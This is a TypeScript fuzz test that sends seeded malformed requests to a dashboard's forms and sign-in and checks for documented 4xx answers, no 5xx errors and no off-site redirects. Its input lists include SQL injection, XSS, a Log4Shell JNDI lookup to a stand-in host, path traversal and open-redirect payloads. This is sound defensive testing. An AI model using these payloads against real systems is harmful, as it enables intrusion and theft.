// The dashboard's forms and sign-in under ≥ 200 generated malformed requests (seeded, so every run sends the
// same ones): wrong content types, JSON bodies, missing or foreign origins, impossible ids and action names,
// odd and huge field values, field names like __proto__, odd query strings. Not one answer may be a 5xx, and
// nothing may be logged as an error; where the problem is the request's shape, the answer is its documented
// 4xx, in the API's JSON error shape for programs and as a page for browsers. The JSON API: fuzz.test.ts.
import fc from 'fast-check';
import { WEB_ACTIONS } from '../../client/web/form-body';
import { createLogger } from '../../worker/logger';
import { useApiSuite } from '../support/api-suite';
import { startDashboard, type Dashboard } from '../support/dashboard';
import { insertTask } from '../support/fixtures';

const SEED = 20231106;
const RUNS = 300;
const TASK = 'form-fuzz-1';

const logged: string[] = [];
const suite = useApiSuite();
let dash: Dashboard;

type Who = 'office' | 'lead' | null;
interface Form {
  who: Who;
  /** A body that would pass. */
  body: Record<string, string>;
  /** The inputs of the form. */
  fields: string[];
}

const ACTION_FORMS: Record<string, Omit<Form, 'who'>> = {
  start: { body: {}, fields: ['requestId'] },
  acknowledge: { body: { note: '收到' }, fields: ['note', 'requestId'] },
  progress: {
    body: { percent: '10', narrative: '已开工' },
    fields: [
      'period',
      'percent',
      'narrative',
      'problems',
      'nextSteps',
      'value.0',
      'value.1',
      'value.99999999999999999999',
    ],
  },
  'extension-request': {
    body: { newDeadline: '2024-06-30', reason: '征地延误' },
    fields: ['newDeadline', 'reason'],
  },
  completion: { body: { summary: '已完成' }, fields: ['summary'] },
  review: { body: { decision: 'reject', comment: '材料不全' }, fields: ['decision', 'grade', 'comment'] },
  'extension-decision': { body: { approve: 'false' }, fields: ['approve', 'newDeadline', 'comment'] },
  suspend: { body: { reason: '调整' }, fields: ['reason'] },
  resume: { body: {}, fields: ['requestId'] },
  cancel: { body: { reason: '撤销' }, fields: ['reason'] },
  reassign: {
    body: { leadDepartment: 'jtj', coDepartments: 'zjj' },
    fields: ['leadDepartment', 'coDepartments', 'reason'],
  },
  instruction: { body: { text: '抓紧推进' }, fields: ['text'] },
};
const DEPARTMENT_ACTIONS = ['acknowledge', 'progress', 'extension-request', 'completion'];

/** Every form route of the dashboard (client/web/routes): who posts it, a body that passes, its inputs. */
const FORMS: Record<string, Form> = {
  ...Object.fromEntries(
    Object.keys(WEB_ACTIONS).map((segment): [string, Form] => [
      `/tasks/${TASK}/${segment}`,
      { who: DEPARTMENT_ACTIONS.includes(segment) ? 'lead' : 'office', ...ACTION_FORMS[segment]! },
    ]),
  ),
  '/ranking/rule': {
    who: 'office',
    body: {
      'weights.reporting': '60',
      'weights.completion': '40',
      lateReportCredit: '0.5',
      'deductions.level1': '0.5',
      'deductions.level2': '1',
      'deductions.level3': '2',
      'deductions.level4': '5',
      maxDeduction: '30',
    },
    fields: ['weights.reporting', 'lateReportCredit', 'deductions.level4', 'maxDeduction'],
  },
  '/login': { who: null, body: { token: 'dbn_x', next: '/' }, fields: ['token', 'next'] },
  '/logout': { who: 'office', body: {}, fields: [] },
};

interface Case {
  kind: string;
  method: 'GET' | 'POST';
  path: string;
  who: Who;
  /** The raw body (urlencoded unless a content type says otherwise). */
  body?: string;
  headers?: Record<string, string>;
  /** The documented answer, when the case is about the request's shape; else any answer below 500. */
  status?: number | number[];
}

const encode = (pairs: Array<[string, string]>) => new URLSearchParams(pairs).toString();
const pairsOf = (body: Record<string, string>) => Object.entries(body);

const FRAGMENTS = [
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '../../etc/passwd',
  '{{7*7}}',
];
const fragment = fc.constantFrom(...FRAGMENTS);
const route = fc.constantFrom(...Object.keys(FORMS));
const actionSegment = fc.constantFrom(...Object.keys(WEB_ACTIONS));
const accept = fc.constantFrom<Record<string, string>>({}, { accept: 'text/html' }, { accept: '*/*' });

const oddValue = fc.oneof(
  fragment,
  fc.constantFrom(
    '',
    ' ',
    '1e309',
    'NaN',
    '-0',
    '0x10',
    '１００',
    '1,000',
    '99999999999999999999',
    '-1',
    'true',
    'null',
  ),
  fc.constantFrom('\u0000', '\u202e反转', '\u200b', '\u0085', '\ud800', 'a\r\nb', '\t'),
  fc.constantFrom('//evil.example', 'javascript:alert(1)', '/\\evil.example', 'http://evil.example/'),
  fc.integer({ min: 4001, max: 6000 }).map((n) => '督'.repeat(n)),
  fc.string({ maxLength: 30 }),
);
const oddName = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', 'value.-1', 'value.x', ''),
  fragment,
);

const wrongType = fc
  .tuple(
    route,
    fc.constantFrom(
      'application/json',
      'text/plain',
      'multipart/form-data; boundary=x',
      'application/xml',
      'image/png',
      'text/html',
    ),
    fc.oneof(fc.jsonValue({ maxDepth: 2 }), fc.constant({ token: 5, note: ['a'], percent: '10' })),
    accept,
  )
  .map(([path, type, value, acc]): Case => ({
    kind: type === 'application/json' ? 'JSON body' : 'wrong content type',
    method: 'POST',
    path,
    who: FORMS[path]!.who,
    body: JSON.stringify(value) ?? 'null',
    headers: { 'content-type': type, ...acc },
    status: 415,
  }));

const foreign = fc
  .tuple(
    route,
    fc.constantFrom<Record<string, string>>(
      { origin: '' },
      { origin: 'http://evil.example' },
      { origin: 'null' },
      { origin: '', referer: 'http://evil.example/x' },
      { origin: 'not a url' },
      { origin: 'http://127.0.0.1' },
    ),
    accept,
  )
  .map(([path, origin, acc]): Case => ({
    kind: 'origin not shown or foreign',
    method: 'POST',
    path,
    who: FORMS[path]!.who,
    body: encode(pairsOf(FORMS[path]!.body)),
    headers: { ...origin, ...acc },
    status: 403,
  }));

const impossibleId = fc
  .oneof(
    fragment,
    fc.string({ minLength: 1, maxLength: 300 }),
    fc.uuid(),
    fc.constantFrom('2023-9-99', 'a'.repeat(101), '\u0000', '\u202e1-1-3202', `${TASK} `, TASK.toUpperCase()),
  )
  .filter((id) => id !== TASK && !/^\.+$/.test(id));

const unknownTask = fc.tuple(actionSegment, impossibleId, accept).map(([segment, id, acc]): Case => ({
  kind: 'impossible task id',
  method: 'POST',
  path: `/tasks/${encodeURIComponent(id)}/${segment}`,
  who: DEPARTMENT_ACTIONS.includes(segment) ? 'lead' : 'office',
  body: encode(pairsOf(ACTION_FORMS[segment]!.body)),
  headers: acc,
  status: 404,
}));

const unknownPage = fc
  .tuple(
    fc.constantFrom('/tasks/%s', '/fragments/tasks/%s/head', '/fragments/tasks/%s/trail'),
    impossibleId,
    accept,
  )
  .map(([pattern, id, acc]): Case => ({
    kind: 'impossible task page',
    method: 'GET',
    path: pattern.replace('%s', encodeURIComponent(id)),
    who: 'office',
    headers: acc,
    status: 404,
  }));

const unknownMail = fc
  .tuple(
    fc.oneof(
      fc.constantFrom('99999999999999999999999', '%00', '%E2%80%AE1', '-1', '1e5', '0'.repeat(30)),
      fc.bigInt({ min: 9223372036854775808n, max: 10n ** 40n }).map(String),
      fc.string({ minLength: 1, maxLength: 300 }).map(encodeURIComponent),
    ),
    accept,
  )
  .map(([segment, acc]): Case => ({
    kind: 'impossible mail id',
    method: 'GET',
    path: `/mail/${segment}`,
    who: 'office',
    headers: acc,
    status: 404,
  }));

const unknownAction = fc
  .tuple(
    fc.oneof(
      fc.constantFrom(
        'constructor',
        '__proto__',
        'toString',
        'hasOwnProperty',
        'valueOf',
        'prototype',
        'ACKNOWLEDGE',
      ),
      fragment,
      fc.string({ minLength: 1, maxLength: 40 }),
    ),
    accept,
  )
  .filter(([name]) => !Object.hasOwn(WEB_ACTIONS, name) && !/^\.+$/.test(name))
  .map(([name, acc]): Case => ({
    kind: 'unknown action',
    method: 'POST',
    path: `/tasks/${TASK}/${encodeURIComponent(name)}`,
    who: 'office',
    body: 'note=x',
    headers: acc,
    status: 404,
  }));

const oddFields = fc
  .tuple(
    route.filter((path) => path !== '/login'),
    fc.array(fc.tuple(fc.option(oddName, { nil: undefined }), oddValue), { minLength: 1, maxLength: 4 }),
    accept,
  )
  .map(([path, odd, acc]): Case => {
    const form = FORMS[path]!;
    // Odd values for the form's own inputs (repeated inputs included), or for odd input names.
    const pairs: Array<[string, string]> = [
      ...pairsOf(form.body),
      ...odd.map(([name, value], i): [string, string] => [
        name ?? form.fields[i % Math.max(1, form.fields.length)] ?? 'x',
        value,
      ]),
    ];
    return {
      kind: 'odd field values',
      method: 'POST',
      path,
      who: form.who,
      body: encode(pairs),
      headers: acc,
    };
  });

const oddSignIn = fc
  .tuple(
    fc.array(fc.tuple(fc.constantFrom('token', 'next', '__proto__', 'constructor'), oddValue), {
      maxLength: 4,
    }),
    accept,
  )
  .map(([pairs, acc]): Case => ({
    kind: 'odd sign-in',
    method: 'POST',
    path: '/login',
    who: null,
    body: encode(pairs),
    headers: acc,
    // Never signed in, never sent elsewhere: asked again (400, 401) or throttled (429).
    status: [400, 401, 429],
  }));

const oversized = fc
  .tuple(route, fc.integer({ min: 70_000, max: 200_000 }), accept)
  .map(([path, n, acc]): Case => ({
    kind: 'oversized form',
    method: 'POST',
    path,
    who: FORMS[path]!.who,
    body: encode([...pairsOf(FORMS[path]!.body), ['narrative', 'x'.repeat(n)]]),
    headers: acc,
    status: 413,
  }));

const oddQuery = fc
  .tuple(
    fc.constantFrom(
      '/',
      '/overdue',
      '/ranking',
      `/tasks/${TASK}`,
      '/mail',
      '/login',
      '/export/ledger.csv',
      '/fragments/board',
    ),
    fc.array(
      fc.tuple(
        fc.constantFrom('light', 'department', 'section', 'done', 'next', 'limit', '__proto__', 'x'),
        oddValue,
      ),
      { minLength: 1, maxLength: 3 },
    ),
    accept,
  )
  .map(([path, pairs, acc]): Case => ({
    kind: 'odd query',
    method: 'GET',
    path: `${path}?${encode(pairs.map(([k, v]): [string, string] => [k, v.slice(0, 2000)]))}`,
    who: 'office',
    headers: acc,
  }));

const malformed = fc.oneof(
  { arbitrary: wrongType, weight: 3 },
  { arbitrary: foreign, weight: 2 },
  { arbitrary: unknownTask, weight: 2 },
  { arbitrary: unknownPage, weight: 1 },
  { arbitrary: unknownMail, weight: 1 },
  { arbitrary: unknownAction, weight: 1 },
  { arbitrary: oddFields, weight: 5 },
  { arbitrary: oddSignIn, weight: 2 },
  { arbitrary: oversized, weight: 1 },
  { arbitrary: oddQuery, weight: 2 },
);

beforeAll(async () => {
  dash = await startDashboard(suite, {
    log: createLogger('form-fuzz', {
      level: 'warn',
      destination: { write: (line) => void logged.push(line) },
    }),
  });
  await insertTask(suite.db, { id: TASK });
  expect((await suite.call('office', 'POST', `/api/tasks/${TASK}/start`)).status).toBe(200);
  expect((await suite.call('lead', 'POST', `/api/tasks/${TASK}/acknowledge`)).status).toBe(200);
});
afterAll(() => dash?.close());

test(`${RUNS} malformed form posts and page requests: no 5xx, the documented 4xx, nothing logged as an error`, async () => {
  const seen = new Map<string, number>();
  await fc.assert(
    fc.asyncProperty(malformed, async (c) => {
      seen.set(c.kind, (seen.get(c.kind) ?? 0) + 1);
      const headers: Record<string, string> = {
        ...(c.method === 'POST'
          ? { 'content-type': 'application/x-www-form-urlencoded', origin: dash.baseUrl }
          : {}),
        ...(c.who ? { cookie: dash.session(suite.tokens[c.who]) } : {}),
        ...c.headers,
      };
      for (const [k, v] of Object.entries(headers)) if (v === '') delete headers[k];
      const res = await fetch(dash.baseUrl + c.path, {
        method: c.method,
        headers,
        body: c.body,
        redirect: 'manual',
      });
      const text = await res.text();
      const what = `${c.kind}: ${c.method} ${c.path.slice(0, 100)} ${(c.body ?? '').slice(0, 100)} → ${res.status} ${text.slice(0, 200)}`;
      expect([what, res.status < 500]).toEqual([what, true]);
      if (c.status !== undefined)
        expect([what, [c.status].flat().includes(res.status)]).toEqual([what, true]);
      if (res.headers.get('content-type')?.startsWith('application/json') && res.status >= 400)
        expect([what, JSON.parse(text)]).toEqual([
          what,
          {
            error: expect.objectContaining({
              code: expect.any(String),
              message: expect.any(String),
              messageEn: expect.any(String),
            }),
          },
        ]);
      // A redirect never leaves the site (sign-in's `next`, a form's success).
      const location = res.headers.get('location');
      if (location !== null) expect([what, /^\/(?![/\\])/.test(location)]).toEqual([what, true]);
    }),
    { seed: SEED, numRuns: RUNS, endOnFailure: true },
  );
  expect([...seen.values()].reduce((a, b) => a + b, 0)).toBeGreaterThanOrEqual(200);
  expect(seen.size).toBe(11);
  expect(logged.filter((line) => (JSON.parse(line) as { level: number }).level >= 50)).toEqual([]);
  // Still serving.
  expect((await fetch(`${dash.baseUrl}/login`)).status).toBe(200);
});
